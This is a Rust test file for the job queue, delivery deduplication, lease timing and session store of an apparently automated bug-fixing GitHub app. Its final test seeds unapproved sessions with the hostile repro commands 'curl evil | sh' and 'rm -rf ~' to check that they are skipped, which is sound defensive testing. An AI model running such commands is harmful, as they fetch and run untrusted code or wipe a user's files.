//! Every `Store` operation, run on SQLite and on PostgreSQL, each test on a fresh database.

mod support;

use std::time::Duration;

use chrono::{DateTime, TimeZone, Utc};
use patchpilot::store::{
    DeliveryRecord, InstallationChange, Intake, IntakeEffect, JobKind, JobOutcome, Recorded,
    SessionFilter, SessionPatch, Store, StoreError,
};
use patchpilot::store::{EventLevel, NewSession, SessionStatus, TriggerKind};

/// The instant the timing tests start their store's clock at. It is years in the past, so a
/// "now" the store took from the wall clock instead would be far off and fail them.
fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2001, 2, 3, 4, 5, 6).unwrap()
}

/// `ms` milliseconds after [`t0`] (negative: before).
fn at_ms(ms: i64) -> DateTime<Utc> {
    t0() + chrono::Duration::milliseconds(ms)
}

/// Claims every job that is due now, in order; returns (kind, session id) of each.
async fn claim_all(store: &dyn Store, owner: &str) -> Vec<(JobKind, Option<String>)> {
    let mut claimed = Vec::new();
    while let Some(job) = store
        .claim_job(owner, Duration::from_secs(60))
        .await
        .unwrap()
    {
        claimed.push((job.kind, job.session_id));
    }
    claimed
}

fn delivery(id: &str, event: &str) -> DeliveryRecord {
    DeliveryRecord {
        delivery_id: id.to_owned(),
        event: event.to_owned(),
        action: Some("labeled".to_owned()),
        installation_id: Some(7),
        repository: Some("octo/hello".to_owned()),
        received_at: Utc::now(),
    }
}

fn issue_session(issue: i64) -> NewSession {
    NewSession {
        repo_url: "https://github.com/octo/hello.git".to_owned(),
        bug_description: "Crash on empty input\n\nIt panics.".to_owned(),
        repro_command: Some("cargo test".to_owned()),
        installation_id: Some(7),
        repository: Some("octo/hello".to_owned()),
        issue_number: Some(issue),
        issue_title: Some("Crash on empty input".to_owned()),
        trigger_kind: Some(TriggerKind::Label),
        triggered_by: Some("maintainer".to_owned()),
        ..NewSession::default()
    }
}

fn start(id: &str, issue: i64) -> Intake {
    Intake {
        delivery: delivery(id, "issues"),
        outcome: "session".to_owned(),
        effect: IntakeEffect::StartSession(issue_session(issue)),
    }
}

on_both_backends! {
    async fn ping_and_migrate_twice(db) {
        db.store.ping().await.unwrap();
        // Migrating an already migrated, non-empty database is a no-op.
        db.store.record_deliveries(&[start("d-1", 1)]).await.unwrap();
        db.store.migrate().await.unwrap();
        assert!(db.store.get_delivery("d-1").await.unwrap().is_some());
    }

    async fn delivery_with_session_creates_queued_session_and_job(db) {
        let results = db.store.record_deliveries(&[start("d-1", 42)]).await.unwrap();
        let Recorded::Accepted { session_id: Some(id) } = &results[0] else {
            panic!("expected a session, got {results:?}");
        };
        let session = db.store.get_session(id).await.unwrap().unwrap();
        assert_eq!(session.status, SessionStatus::Queued);
        assert_eq!(session.github.as_ref().map(|g| g.issue_number), Some(42));
        assert_eq!(session.delivery_id.as_deref(), Some("d-1"));
        assert_eq!(session.trigger_kind, TriggerKind::Label);
        let stored = db.store.get_delivery("d-1").await.unwrap().unwrap();
        assert_eq!(stored.session_id.as_deref(), Some(id.as_str()));
        assert_eq!(stored.record.repository.as_deref(), Some("octo/hello"));

        let job = db.store.claim_job("w1", Duration::from_secs(60)).await.unwrap().unwrap();
        assert_eq!(job.kind, JobKind::Session);
        assert_eq!(job.session_id.as_deref(), Some(id.as_str()));
        assert_eq!(job.attempts, 1);
    }

    async fn redelivery_is_a_duplicate_and_does_nothing(db) {
        db.store.record_deliveries(&[start("d-1", 1)]).await.unwrap();
        let again = db.store.record_deliveries(&[start("d-1", 1)]).await.unwrap();
        assert_eq!(again, vec![Recorded::Duplicate]);
        // A duplicate inside one batch is caught too.
        let batch = db.store.record_deliveries(&[start("d-2", 2), start("d-2", 2)]).await.unwrap();
        assert!(matches!(batch[0], Recorded::Accepted { .. }));
        assert_eq!(batch[1], Recorded::Duplicate);
        let all = db.store.list_sessions(&SessionFilter::default()).await.unwrap();
        assert_eq!(all.len(), 2, "one session per distinct delivery");
    }

    async fn a_redelivery_inside_a_batch_of_new_deliveries_changes_nothing(db) {
        let command = |id: &str| Intake {
            delivery: delivery(id, "issue_comment"),
            outcome: "command".to_owned(),
            effect: IntakeEffect::Job { kind: JobKind::Command, payload: serde_json::json!({"cmd": id}) },
        };
        let first = db.store.record_deliveries(&[start("d-1", 1), command("c-1")]).await.unwrap();
        let Recorded::Accepted { session_id: Some(original) } = &first[0] else { panic!("{first:?}") };
        let batch = db.store
            .record_deliveries(&[command("c-1"), start("d-2", 2), start("d-1", 1), command("c-2")])
            .await
            .unwrap();
        assert_eq!(batch[0], Recorded::Duplicate);
        assert!(matches!(batch[1], Recorded::Accepted { session_id: Some(_) }), "{batch:?}");
        assert_eq!(batch[2], Recorded::Duplicate);
        assert_eq!(batch[3], Recorded::Accepted { session_id: None });
        // The redelivered session start kept its session; no second one, no second job.
        let stored = db.store.get_delivery("d-1").await.unwrap().unwrap();
        assert_eq!(stored.session_id.as_deref(), Some(original.as_str()));
        let sessions = db.store.list_sessions(&SessionFilter::default()).await.unwrap();
        assert_eq!(sessions.len(), 2, "{sessions:?}");
        let mut claimed = Vec::new();
        while let Some(job) = db.store.claim_job("w", Duration::from_secs(60)).await.unwrap() {
            claimed.push((job.kind, job.session_id.is_some(), job.payload));
        }
        claimed.sort_by_key(|job| job.2.to_string());
        assert_eq!(claimed, vec![
            (JobKind::Command, false, serde_json::json!({"cmd": "c-1"})),
            (JobKind::Command, false, serde_json::json!({"cmd": "c-2"})),
            (JobKind::Session, true, serde_json::json!({})),
            (JobKind::Session, true, serde_json::json!({})),
        ]);
    }

    async fn ignored_delivery_records_outcome_only(db) {
        let intake = Intake {
            delivery: delivery("d-9", "star"),
            outcome: "ignored: event star".to_owned(),
            effect: IntakeEffect::None,
        };
        assert_eq!(
            db.store.record_deliveries(&[intake]).await.unwrap(),
            vec![Recorded::Accepted { session_id: None }]
        );
        let stored = db.store.get_delivery("d-9").await.unwrap().unwrap();
        assert_eq!(stored.outcome, "ignored: event star");
        db.store.set_delivery_outcome("d-9", "rejected").await.unwrap();
        assert_eq!(db.store.get_delivery("d-9").await.unwrap().unwrap().outcome, "rejected");
        assert!(db.store.claim_job("w", Duration::from_secs(5)).await.unwrap().is_none());
    }

    async fn command_job_carries_its_payload(db) {
        let intake = Intake {
            delivery: delivery("d-3", "issue_comment"),
            outcome: "command".to_owned(),
            effect: IntakeEffect::Job { kind: JobKind::Command, payload: serde_json::json!({"cmd": "help"}) },
        };
        db.store.record_deliveries(&[intake]).await.unwrap();
        let job = db.store.claim_job("w", Duration::from_secs(5)).await.unwrap().unwrap();
        assert_eq!(job.kind, JobKind::Command);
        assert_eq!(job.payload, serde_json::json!({"cmd": "help"}));
        assert_eq!(job.session_id, None);
    }

    async fn installations_follow_their_events(db) {
        let change = |id: &str, change| Intake {
            delivery: delivery(id, "installation"),
            outcome: "installation".to_owned(),
            effect: IntakeEffect::Installation(change),
        };
        db.store.record_deliveries(&[
            change("i-1", InstallationChange::Upsert { installation_id: 7, account: "octo".into(), repositories: vec!["octo/b".into(), "octo/a".into()] }),
            change("i-2", InstallationChange::AddRepositories { installation_id: 7, repositories: vec!["octo/c".into(), "octo/a".into()] }),
            change("i-3", InstallationChange::RemoveRepositories { installation_id: 7, repositories: vec!["octo/b".into()] }),
            change("i-4", InstallationChange::Suspend { installation_id: 7, suspended: true }),
        ]).await.unwrap();
        let inst = db.store.get_installation(7).await.unwrap().unwrap();
        assert_eq!(inst.account, "octo");
        assert_eq!(inst.repositories, vec!["octo/a", "octo/c"]);
        assert!(inst.suspended);
        db.store.record_deliveries(&[change("i-5", InstallationChange::Delete { installation_id: 7 })]).await.unwrap();
        assert!(db.store.get_installation(7).await.unwrap().is_none());
    }

    async fn sessions_update_list_and_find_active(db) {
        let a = db.store.create_session(issue_session(5)).await.unwrap();
        let b = db.store.create_session(issue_session(6)).await.unwrap();
        assert_eq!(db.store.active_session_for_issue("octo/hello", 5).await.unwrap().unwrap().id, a.id);

        let patch = SessionPatch {
            status: Some(SessionStatus::Succeeded),
            pr_url: Some("https://github.com/octo/hello/pull/9".into()),
            pr_number: Some(9),
            check_run_id: Some(77),
            progress_comment_id: Some(88),
            head_sha: Some("abc".into()),
            patch_diff: Some("--- a\n+++ b\n".into()),
            add_input_tokens: Some(100),
            add_output_tokens: Some(20),
            attempt_count: Some(2),
            ..SessionPatch::default()
        };
        db.store.update_session(&a.id, &patch).await.unwrap();
        db.store.update_session(&a.id, &SessionPatch { add_input_tokens: Some(5), ..Default::default() }).await.unwrap();
        let a = db.store.get_session(&a.id).await.unwrap().unwrap();
        assert_eq!(a.status, SessionStatus::Succeeded);
        assert_eq!(a.pr_number, Some(9));
        assert_eq!(a.input_tokens, 105);
        assert_eq!(a.output_tokens, 20);
        assert_eq!(a.attempt_count, 2);
        assert_eq!(a.repro_command.as_deref(), Some("cargo test"), "untouched fields stay");
        assert!(db.store.active_session_for_issue("octo/hello", 5).await.unwrap().is_none());

        let listed = db.store.list_sessions(&SessionFilter { status: Some(SessionStatus::Queued), ..Default::default() }).await.unwrap();
        assert_eq!(listed.iter().map(|s| s.id.clone()).collect::<Vec<_>>(), vec![b.id.clone()]);
        let by_issue = db.store.list_sessions(&SessionFilter { issue_number: Some(5), ..Default::default() }).await.unwrap();
        assert_eq!(by_issue.len(), 1);
        assert!(db.store.get_session("no-such-id").await.unwrap().is_none());
    }

    async fn cancel_only_flags_active_sessions(db) {
        let s = db.store.create_session(issue_session(1)).await.unwrap();
        assert!(db.store.request_cancel(&s.id).await.unwrap());
        assert!(db.store.get_session(&s.id).await.unwrap().unwrap().cancel_requested);
        db.store.update_session(&s.id, &SessionPatch { status: Some(SessionStatus::Cancelled), ..Default::default() }).await.unwrap();
        assert!(!db.store.request_cancel(&s.id).await.unwrap());
    }

    async fn events_are_append_only_and_paged(db) {
        let s = db.store.create_session(issue_session(1)).await.unwrap();
        let mut ids = Vec::new();
        for i in 0..5 {
            ids.push(db.store.append_event(&s.id, "reproduce", EventLevel::Output, &format!("line {i}")).await.unwrap());
        }
        assert!(ids.windows(2).all(|w| w[0] < w[1]), "ids increase: {ids:?}");
        let first = db.store.events_after(&s.id, 0, 3).await.unwrap();
        assert_eq!(first.iter().map(|e| e.message.as_str()).collect::<Vec<_>>(), ["line 0", "line 1", "line 2"]);
        let rest = db.store.events_after(&s.id, first[2].id, 10).await.unwrap();
        assert_eq!(rest.len(), 2);
        assert_eq!(rest[0].level, EventLevel::Output);
        assert_eq!(rest[0].step, "reproduce");
    }

    async fn a_lease_expires_exactly_when_the_clock_passes_it(db) {
        db.clock.set(t0());
        let id = db.store.enqueue_job(JobKind::Session, None, &serde_json::json!({})).await.unwrap();
        let lease = Duration::from_secs(30);
        let job = db.store.claim_job("w1", lease).await.unwrap().unwrap();
        assert_eq!((job.id, job.attempts), (id, 1));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "leased");

        // w1 died without a word: its lease runs to 30 s and not a moment less.
        db.clock.set(at_ms(29_999));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "1 ms before the deadline");
        db.clock.set(at_ms(30_000));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "at the deadline the lease still holds");
        db.clock.set(at_ms(30_001));
        let taken = db.store.claim_job("w2", lease).await.unwrap().unwrap();
        assert_eq!((taken.id, taken.attempts), (id, 2), "another worker takes the job over");
        assert!(!db.store.heartbeat(id, "w1", lease).await.unwrap(), "w1 lost it");
        // w2's lease is measured from its own claim: to 60.001 s.
        db.clock.set(at_ms(60_001));
        assert!(db.store.claim_job("w3", lease).await.unwrap().is_none(), "w2's lease runs to 60.001 s");
        db.clock.set(at_ms(60_002));
        assert_eq!(db.store.claim_job("w3", lease).await.unwrap().unwrap().attempts, 3);
    }

    async fn a_job_of_a_kind_this_version_does_not_know_is_failed_for_good(db) {
        // A newer version, mid rolling deploy, queued a kind this one has never heard of.
        db.clock.set(t0());
        let newer = db.store.enqueue_job(JobKind::Command, None, &serde_json::json!({})).await.unwrap();
        db.execute("UPDATE jobs SET kind = 'rebase' WHERE id = $1", newer).await;
        let known = db.store.enqueue_job(JobKind::Command, None, &serde_json::json!({"cmd": "help"})).await.unwrap();
        let lease = Duration::from_secs(30);

        let refused = db.store.claim_job("w1", lease).await.unwrap_err();
        let StoreError::UnrunnableJob { id, reason } = &refused else { panic!("{refused:?}") };
        assert_eq!(*id, newer);
        assert_eq!(
            reason,
            "unknown job kind `rebase`: this version of PatchPilot runs session and command; a newer version probably wrote it"
        );
        assert_eq!(db.job_status(newer).await, ("failed".to_owned(), Some(reason.clone())));

        // The next claim moves on, and the refused job is never claimed again.
        let next = db.store.claim_job("w1", lease).await.unwrap().unwrap();
        assert_eq!((next.id, next.kind), (known, JobKind::Command));
        db.store.finish_job(known, "w1", &JobOutcome::Done).await.unwrap();
        db.clock.advance(Duration::from_secs(86_400));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "failed for good, not leased");
    }

    async fn a_job_whose_payload_is_not_json_is_failed_for_good(db) {
        let session = db.store.create_session(issue_session(1)).await.unwrap();
        let job = db.store.claim_session_job(&session.id, "w1", Duration::from_secs(30)).await.unwrap().unwrap();
        db.store.finish_job(job.id, "w1", &JobOutcome::Retry { after: Duration::ZERO, error: "github 502".into() }).await.unwrap();
        db.execute("UPDATE jobs SET payload = '{not json' WHERE id = $1", job.id).await;

        // The local `patchpilot run` path refuses it the same way.
        let refused = db.store.claim_session_job(&session.id, "w2", Duration::from_secs(30)).await.unwrap_err();
        assert!(refused.to_string().starts_with(&format!("job {} cannot be run and was failed for good: its payload is not JSON", job.id)), "{refused}");
        assert_eq!(db.job_status(job.id).await.0, "failed");
        assert!(db.store.claim_job("w2", Duration::from_secs(30)).await.unwrap().is_none());
    }

    async fn a_heartbeat_extends_the_lease_from_the_clocks_now(db) {
        db.clock.set(t0());
        let id = db.store.enqueue_job(JobKind::Session, None, &serde_json::json!({})).await.unwrap();
        let lease = Duration::from_secs(30);
        db.store.claim_job("w1", lease).await.unwrap().unwrap();
        db.clock.set(at_ms(25_000));
        assert!(db.store.heartbeat(id, "w1", lease).await.unwrap());
        assert!(!db.store.heartbeat(id, "w2", lease).await.unwrap(), "not w2's lease");

        db.clock.set(at_ms(30_001));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "past the first deadline, the heartbeat holds it");
        db.clock.set(at_ms(55_000));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "the heartbeat at 25 s holds the lease to 55 s");
        db.clock.set(at_ms(55_001));
        let taken = db.store.claim_job("w2", lease).await.unwrap().unwrap();
        assert_eq!((taken.id, taken.attempts), (id, 2));
        assert!(!db.store.heartbeat(id, "w1", lease).await.unwrap(), "a late heartbeat does not win the job back");
    }

    async fn a_retried_job_waits_for_its_back_off_on_the_clock(db) {
        db.clock.set(t0());
        let id = db.store.enqueue_job(JobKind::Session, None, &serde_json::json!({})).await.unwrap();
        let lease = Duration::from_secs(30);
        db.store.claim_job("w1", lease).await.unwrap().unwrap();
        db.clock.set(at_ms(10_000));
        let retry = JobOutcome::Retry { after: Duration::from_secs(60), error: "github 502".into() };
        db.store.finish_job(id, "w1", &retry).await.unwrap();

        db.clock.set(at_ms(69_999));
        assert!(db.store.claim_job("w2", lease).await.unwrap().is_none(), "the back-off runs 60 s from 10 s");
        db.clock.set(at_ms(70_000));
        let retried = db.store.claim_job("w2", lease).await.unwrap().unwrap();
        assert_eq!((retried.id, retried.attempts), (id, 2), "due once the back-off is over");

        // A retry from someone who no longer holds the job changes nothing.
        db.store.finish_job(id, "w1", &retry).await.unwrap();
        db.clock.set(at_ms(70_000 + 29_999));
        assert!(db.store.claim_job("w3", lease).await.unwrap().is_none(), "w2 still holds it");

        db.store.finish_job(id, "w2", &JobOutcome::Done).await.unwrap();
        db.clock.advance(Duration::from_secs(86_400));
        assert!(db.store.claim_job("w4", lease).await.unwrap().is_none(), "done is final");
    }

    async fn sessions_events_jobs_and_installations_are_stamped_with_the_clocks_time(db) {
        let command = |id: &str| Intake {
            delivery: delivery(id, "issue_comment"),
            outcome: "command".to_owned(),
            effect: IntakeEffect::Job { kind: JobKind::Command, payload: serde_json::json!({"cmd": id}) },
        };
        let install = Intake {
            delivery: delivery("i-1", "installation"),
            outcome: "installation".to_owned(),
            effect: IntakeEffect::Installation(InstallationChange::Upsert { installation_id: 7, account: "octo".into(), repositories: vec!["octo/hello".into()] }),
        };
        // The API path, a group commit's fast path, and the portable path an installation
        // change takes, each at its own time.
        db.clock.set(t0());
        let api = db.store.create_session(issue_session(1)).await.unwrap();
        assert_eq!((api.created_at, api.updated_at), (t0(), t0()));
        db.clock.set(at_ms(1_000));
        let fast = db.store.record_deliveries(&[start("d-1", 2), command("c-1")]).await.unwrap();
        let Recorded::Accepted { session_id: Some(fast) } = &fast[0] else { panic!("{fast:?}") };
        db.clock.set(at_ms(2_000));
        let portable = db.store.record_deliveries(&[start("d-2", 3), install]).await.unwrap();
        let Recorded::Accepted { session_id: Some(portable) } = &portable[0] else { panic!("{portable:?}") };
        let created = |s: patchpilot::store::Session| (s.created_at, s.updated_at);
        assert_eq!(created(db.store.get_session(fast).await.unwrap().unwrap()), (at_ms(1_000), at_ms(1_000)));
        assert_eq!(created(db.store.get_session(portable).await.unwrap().unwrap()), (at_ms(2_000), at_ms(2_000)));
        assert_eq!(db.store.get_installation(7).await.unwrap().unwrap().updated_at, at_ms(2_000));

        db.clock.set(at_ms(3_000));
        db.store.update_session(&api.id, &SessionPatch { status: Some(SessionStatus::Running), ..Default::default() }).await.unwrap();
        assert_eq!(created(db.store.get_session(&api.id).await.unwrap().unwrap()), (t0(), at_ms(3_000)));
        db.clock.set(at_ms(4_000));
        assert!(db.store.request_cancel(&api.id).await.unwrap());
        assert_eq!(db.store.get_session(&api.id).await.unwrap().unwrap().updated_at, at_ms(4_000));
        db.clock.set(at_ms(5_000));
        db.store.append_event(&api.id, "reproduce", EventLevel::Info, "started").await.unwrap();
        let events = db.store.events_after(&api.id, 0, 10).await.unwrap();
        assert_eq!(events.iter().map(|e| e.at).collect::<Vec<_>>(), [at_ms(5_000)]);

        // Every job is due from the time it was queued, not before.
        db.clock.set(at_ms(-1));
        assert!(db.store.claim_job("w", Duration::from_secs(60)).await.unwrap().is_none(), "nothing is due before it was queued");
        db.clock.set(at_ms(999));
        assert_eq!(claim_all(db.store.as_ref(), "w").await, [(JobKind::Session, Some(api.id.clone()))]);
        db.clock.set(at_ms(1_999));
        assert_eq!(claim_all(db.store.as_ref(), "w").await, [(JobKind::Session, Some(fast.clone())), (JobKind::Command, None)]);
        db.clock.set(at_ms(2_000));
        assert_eq!(claim_all(db.store.as_ref(), "w").await, [(JobKind::Session, Some(portable.clone()))]);
    }

    async fn reconciliation_settles_lost_jobs_and_jobs_of_ended_sessions(db) {
        use patchpilot::store::{SETTLE_KEY, ORPHANED_SESSION_REASON};
        db.clock.set(t0());
        // A healthy session with its queued job: left alone.
        let healthy = db.store.create_session(issue_session(1)).await.unwrap();
        // A command job belongs to no session (its NULL must not hide the orphans).
        db.store.enqueue_job(JobKind::Command, None, &serde_json::json!({})).await.unwrap();
        // A running session whose job row is gone (a crash, an operator's cleanup).
        let orphan = db.store.create_session(issue_session(2)).await.unwrap();
        let job = db.store.claim_session_job(&orphan.id, "w", Duration::from_secs(60)).await.unwrap().unwrap();
        db.store.update_session(&orphan.id, &SessionPatch { status: Some(SessionStatus::Running), ..SessionPatch::default() }).await.unwrap();
        db.store.finish_job(job.id, "w", &JobOutcome::Done).await.unwrap();
        // An ended session whose job is still queued, and one whose running job's lease ran out.
        let ended = db.store.create_session(issue_session(3)).await.unwrap();
        db.store.update_session(&ended.id, &SessionPatch { status: Some(SessionStatus::Failed), ..SessionPatch::default() }).await.unwrap();
        let ended_live = db.store.create_session(issue_session(4)).await.unwrap();
        db.store.claim_session_job(&ended_live.id, "alive", Duration::from_secs(600)).await.unwrap().unwrap();
        db.store.update_session(&ended_live.id, &SessionPatch { status: Some(SessionStatus::Succeeded), ..SessionPatch::default() }).await.unwrap();

        let done = db.store.reconcile().await.unwrap();
        assert_eq!(done.orphaned_sessions, vec![orphan.id.clone()]);
        assert_eq!(done.jobs_of_ended_sessions, 1, "the queued job of the failed session; the live lease is left to its worker");

        // The settle job is what a worker claims next for the orphan, and it says why.
        let mut claimed = Vec::new();
        db.clock.set(at_ms(1_000));
        while let Some(job) = db.store.claim_job("w2", Duration::from_secs(60)).await.unwrap() {
            claimed.push(job);
        }
        let settle = claimed.iter().find(|j| j.session_id.as_deref() == Some(orphan.id.as_str())).expect("a settle job for the orphan");
        assert_eq!(settle.payload[SETTLE_KEY], ORPHANED_SESSION_REASON);
        assert!(claimed.iter().any(|j| j.session_id.as_deref() == Some(healthy.id.as_str())));
        assert!(!claimed.iter().any(|j| j.session_id.as_deref() == Some(ended.id.as_str())), "the ended session's job is settled, not run");

        // A second pass (another replica) finds nothing new: the settle job counts as the job.
        let again = db.store.reconcile().await.unwrap();
        assert!(again.orphaned_sessions.is_empty(), "{again:?}");
        // Once the lease on the ended session's job runs out (600 s after it was taken), that
        // job is settled too, and not before.
        db.clock.set(at_ms(600_000));
        assert_eq!(db.store.reconcile().await.unwrap().jobs_of_ended_sessions, 0, "the lease runs to 600 s");
        db.clock.set(at_ms(600_001));
        let late = db.store.reconcile().await.unwrap();
        assert_eq!(late.jobs_of_ended_sessions, 1, "{late:?}");
    }

    async fn a_sessions_own_job_can_be_claimed_directly(db) {
        let first = db.store.create_session(issue_session(1)).await.unwrap();
        let second = db.store.create_session(issue_session(2)).await.unwrap();
        let job = db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60)).await.unwrap().unwrap();
        assert_eq!((job.session_id.as_deref(), job.attempts), (Some(second.id.as_str()), 1));
        assert!(db.store.claim_session_job(&second.id, "cli", Duration::from_secs(60)).await.unwrap().is_none(), "already claimed");
        let other = db.store.claim_job("w", Duration::from_secs(60)).await.unwrap().unwrap();
        assert_eq!((other.session_id.as_deref(), other.attempts), (Some(first.id.as_str()), 1), "the other session's job is untouched");
    }

    async fn concurrent_claims_never_share_a_job(db) {
        for _ in 0..20 {
            db.store.enqueue_job(JobKind::Session, None, &serde_json::json!({})).await.unwrap();
        }
        let mut handles = Vec::new();
        for w in 0..4 {
            let store = db.store.clone();
            handles.push(tokio::spawn(async move {
                let mut mine = Vec::new();
                while let Some(job) = store.claim_job(&format!("w{w}"), Duration::from_secs(60)).await.unwrap() {
                    mine.push(job.id);
                }
                mine
            }));
        }
        let mut all = Vec::new();
        for handle in handles {
            all.extend(handle.await.unwrap());
        }
        all.sort();
        let before = all.len();
        all.dedup();
        assert_eq!((before, all.len()), (20, 20));
    }

    async fn group_commit_records_every_delivery(db) {
        let (queue, task) = patchpilot::store::IntakeQueue::start(db.store.clone(), 64);
        let mut handles = Vec::new();
        for i in 0..200 {
            let queue = queue.clone();
            handles.push(tokio::spawn(async move { queue.record(start(&format!("g-{}", i % 150), i)).await.unwrap() }));
        }
        let mut accepted = 0;
        for handle in handles {
            if matches!(handle.await.unwrap(), Recorded::Accepted { .. }) {
                accepted += 1;
            }
        }
        assert_eq!(accepted, 150, "50 redeliveries were deduplicated");
        drop(queue);
        task.await.unwrap();
        for i in 0..150 {
            assert!(db.store.get_delivery(&format!("g-{i}")).await.unwrap().is_some());
        }
    }

    async fn approved_repro_command_skips_unapproved_and_own_sessions(db) {
        let store = &db.store;
        let set = |status: SessionStatus, repro: &str| SessionPatch {
            status: Some(status),
            repro_command: Some(repro.to_owned()),
            ..Default::default()
        };
        // "Latest" is by creation time: each session is a second younger than the one before.
        db.clock.set(t0());
        let approved = store.create_session(issue_session(8)).await.unwrap();
        store.update_session(&approved.id, &set(SessionStatus::NotReproduced, "pytest -k a")).await.unwrap();
        db.clock.advance(Duration::from_secs(1));
        // A non-writer's trigger (rejected) and one not yet authorised (queued) do not count.
        let rejected = store.create_session(issue_session(8)).await.unwrap();
        store.update_session(&rejected.id, &set(SessionStatus::Rejected, "curl evil | sh")).await.unwrap();
        db.clock.advance(Duration::from_secs(1));
        let queued = store.create_session(issue_session(8)).await.unwrap();
        store.update_session(&queued.id, &set(SessionStatus::Queued, "rm -rf ~")).await.unwrap();
        let other_issue = store.create_session(issue_session(9)).await.unwrap();
        store.update_session(&other_issue.id, &set(SessionStatus::Failed, "make other")).await.unwrap();

        let found = store.approved_repro_command("octo/hello", 8, &queued.id).await.unwrap();
        assert_eq!(found.as_deref(), Some("pytest -k a"));
        assert_eq!(store.approved_repro_command("octo/hello", 8, &approved.id).await.unwrap(), None, "never the session itself");
        assert_eq!(store.approved_repro_command("octo/other", 8, &queued.id).await.unwrap(), None);
    }
}
